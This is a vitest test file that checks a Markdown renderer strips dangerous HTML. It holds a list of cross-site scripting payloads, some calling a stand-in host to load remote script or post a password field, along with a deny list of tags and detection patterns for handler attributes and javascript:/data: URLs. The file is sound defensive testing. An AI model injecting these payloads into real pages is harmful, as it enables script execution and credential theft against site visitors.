import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/artefacts/site/text/markdown.ts';
import { elements, parsePage } from './parse-page.ts';

/** Texts that somebody may put into a description to run a program in the reader's browser or to break the page. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<details ontoggle=alert(1) open>x</details>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox)',
  '![a](javascript:alert(1))',
  '![a](data:text/html,<script>alert(1)</script>)',
  '<a href="x" style="position:fixed;inset:0">a</a>',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '</template></div></main></body><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<!--<script>-->alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<div id="content">a</div><p id="menu">b</p>',
  '<b><i><u>never closed <table><tr><td>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '{{constructor.constructor "alert(1)"}} {{{main}}} {{> layout}}',
  '`<img src=x onerror=alert(1)>`',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '<xss contenteditable onfocus=alert(1) autofocus tabindex=0>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

const forbidden = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'form',
  'svg',
  'math',
  'template',
  'button',
  'textarea',
]);

describe('a description cannot run a program or break its page', () => {
  it.each(attacks)('%j', (attack) => {
    const { html } = renderMarkdown(`Before.\n\n${attack}\n\nAfter.`, { topLevel: 0 });
    const tree = parsePage(`<main><div class="prose">${html}</div><p class="sentinel">end</p></main>`);
    const all = elements(tree, () => true);
    expect(all.filter(({ tagName }) => forbidden.has(tagName)).map(({ tagName }) => tagName)).toEqual([]);
    const names = all.flatMap(({ properties }) => Object.keys(properties));
    expect(names.filter((name) => /^on|^style$|^srcDoc$|^formAction$|^autoFocus$/i.test(name))).toEqual([]);
    const urls = all
      .flatMap(({ properties: { href, src } }) => [href, src])
      .filter((url) => url !== undefined);
    expect(urls.map(String).filter((url) => /^[\s\p{C}]*(javascript|data|vbscript)/iu.test(url))).toEqual([]);
    const main = elements(tree, ({ tagName }) => tagName === 'main')[0];
    const last = main?.children.findLast((child) => child.type === 'element');
    expect(last?.type === 'element' && last.properties.className).toEqual(['sentinel']);
  });
});
